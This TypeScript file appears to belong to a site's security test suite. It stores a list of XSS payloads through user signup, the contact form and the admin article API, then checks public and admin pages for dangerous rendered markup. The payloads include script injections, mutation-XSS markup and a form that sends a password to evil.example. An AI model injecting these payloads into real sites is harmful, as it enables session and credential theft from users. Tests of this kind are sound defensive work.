import { randomBytes } from 'node:crypto'
import { callApi } from '../support/site.ts'
import { accountPassword } from './enumeration.ts'
import { findDanger } from './markup.ts'
import { noneOf } from './probe.ts'
import type { Target } from './target.ts'

const xss = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  `'-alert(1)-'`,
  '</script><script>alert(1)</script>',
  '<!--<script>-->',
  'javascript:alert(1)',
  '<a href="java\tscript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "https://evil.example"</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '\u2028<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
]

/**
 * Stores markup in the name of a new user, in the message of a visitor, and in an article with a stolen admin
 * token. Then checks the pages that show these texts.
 */
export async function attackStoredMarkup(target: Target) {
  const failures: string[] = []
  const pages: [path: string, cookie?: string][] = []
  const admin = await target.asAdmin()
  const cookie = await target.adminCookie()
  let count = 0
  for (const text of xss) {
    const code = randomBytes(5).toString('hex')
    const member = await target.post('/auth/v1/signup', {
      email: `${code}@example.com`,
      password: accountPassword,
      data: { first_name: text.slice(0, 45), last_name: text.slice(0, 45) },
    })
    const email = `${code}@example.com`
    const fields = {
      firstName: text.slice(0, 45),
      lastName: 'Lee',
      email,
      subject: text,
      message: text,
    }
    const message = await target.submit('/contact', fields, { marker: 'name="subject"' })
    const article = await target.api('/rest/v1/articles?select=id,slug', {
      method: 'POST',
      headers: { ...admin, prefer: 'return=representation' },
      body: {
        title: text,
        slug: `hostile-${code}`,
        excerpt: text,
        content: `<p>before</p>${text}<p>after</p>`,
        status: 'published',
        published_at: new Date().toISOString(),
      },
    })
    if (member.status >= 500 || message.status >= 500 || article.status >= 500) {
      failures.push(`an error for ${text}`)
    }
    count += 3
    pages.push([`/blog/hostile-${code}`])
    const [row] = article.status === 201 ? (JSON.parse(article.text) as { id: string }[]) : []
    if (row) pages.push([`/admin/content/edit/${row.id}`, cookie])
  }
  pages.push(['/blog'], ['/feed.xml'], ['/'])
  for (const path of ['/admin', '/admin/messages', '/admin/users', '/admin/content']) {
    pages.push([path, cookie])
  }
  const messages = await callApi(
    target.site,
    'GET',
    '/rest/v1/contact_messages?select=id&order=created_at.desc&limit=20',
  )
  for (const { id } of messages as { id: string }[]) pages.push([`/admin/messages/${id}`, cookie])
  for (const [path, session] of pages) {
    const response = await target.request(path, { headers: session ? { cookie: session } : {} })
    const danger = findDanger(response.text)
    if (danger) failures.push(`${danger} on ${path}`)
    if (response.status >= 500) failures.push(`${path} ${response.status}`)
  }
  return noneOf(count, failures, `stored texts harmless on ${pages.length} pages`)
}
